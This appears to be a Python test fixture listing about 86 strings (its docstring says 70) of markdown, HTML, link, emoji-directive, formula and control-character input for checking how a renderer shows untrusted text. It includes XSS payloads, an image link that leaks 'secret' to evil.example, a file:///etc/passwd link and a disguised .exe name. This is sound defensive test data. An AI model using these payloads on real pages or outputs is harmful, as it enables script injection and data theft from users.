"""Texts that try to be more than text where they are shown: 70 of them."""

PAYLOADS = (
    # images
    "![x](https://evil.example/a.png)", "![x](//evil.example/a.png)", "![x][r]\n\n[r]: https://evil.example/a.png",
    "![](data:image/png;base64,AAAA)", "[![x](https://evil.example/i)](https://evil.example)",
    "<img src=https://evil.example/a.png>", "<img src=x onerror=alert(1)>", "<picture><source srcset=//evil.example>",
    "!\\[x](https://evil.example/a.png)", "![a\nb](https://evil.example/c?d=secret)",
    # links
    "[x](https://evil.example)", "[x](javascript:alert(1))", "[x](<https://evil.example> \"t\")",
    "[x][r]\n\n[r]: https://evil.example", "[r]\n\n[r]: https://evil.example 'title'", "[x][]\n\n[x]: //evil.example",
    "https://evil.example/?q=secret", "http://evil.example", "ftp://evil.example/file", "www.evil.example/path",
    "WWW.EVIL.EXAMPLE", "<https://evil.example>", "<javascript:alert(1)>", "<a@evil.example>", "a@evil.example",
    "mailto:a@evil.example", "xmpp:a@evil.example", "see(https://evil.example)", "*https://evil.example*",
    "[x](//evil.example)", "[x](\\\\evil.example\\share)", "[x](file:///etc/passwd)", "[x](data:text/html,<b>)",
    # HTML
    "<script>alert(1)</script>", "<b>x</b>", "</div><h1>x</h1>", "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)>", "<!-- x -->", "<style>*{display:none}</style>", "<?php x ?>", "<![CDATA[x]]>",
    "<form action=https://evil.example><input>", "<a href=https://evil.example>x</a>", "&lt;b&gt; &#60;b&#62;",
    "<details open ontoggle=alert(1)>", "\"><img src=x>", "' onmouseover='alert(1)", "</mark><script>x</script>",
    "<object data=//evil.example>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # footnotes, tables, blocks
    "x[^1]\n\n[^1]: https://evil.example", "| a | b |\n|---|---|\n| c | d |", "# heading", "> quote", "- item",
    "1. item", "---", "```\ncode\n```", "    code", "`code`", "**bold** __bold__ ~~gone~~",
    # Streamlit's own
    ":red[x]", ":blue-background[x]", ":material/delete:", ":smile:", ":streamlit:", ":small[x]", ":rainbow[x]",
    ":orange-badge[x]", ":+1:", ":a:b:", ":mask:", "::red[x]", ":mark[x]",
    # formulas
    "$x^2$", "$$x^2$$", "\\(x\\)", "\\[x\\]", "$\\href{https://evil.example}{x}$", "costs $5 and $6",
    # controls
    "a\u202egnp.exe", "a\x00b", "x\u2028<b>y</b>",
)  # fmt: skip
